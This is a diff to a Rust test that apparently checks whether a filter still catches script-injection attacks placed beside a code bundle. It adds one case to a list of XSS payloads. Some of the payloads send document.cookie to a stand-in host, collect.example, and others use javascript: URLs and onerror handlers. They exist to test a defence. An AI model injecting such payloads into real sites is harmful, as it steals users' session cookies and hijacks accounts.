@@ -58,9 +58,10 @@ fn injected_scripts_and_attacks_beside_a_bundle_are_still_caught() {
     let bundle = BUNDLES[0];
     let attacks = [
         // Script injection: a bundle that breaks out of an attribute and opens a script element,
-        // or runs through a `javascript:` URL.
+        // runs through a `javascript:` URL or writes a tag with an event handler.
         format!("\"><script>{bundle}fetch('//collect.example/?c='+document.cookie)</script>"),
         format!("{bundle}location.href='javascript:alert(document.domain)'"),
+        format!("{bundle}document.body.innerHTML='<img src=x onerror=alert(document.domain)>'"),
         // Short script payloads are values, not bundles.
         "\"><img src=x onerror=\"var s=this;fetch('//collect.example/?'+document.cookie)\">".to_string(),
         // An override beside a bundle is not code.
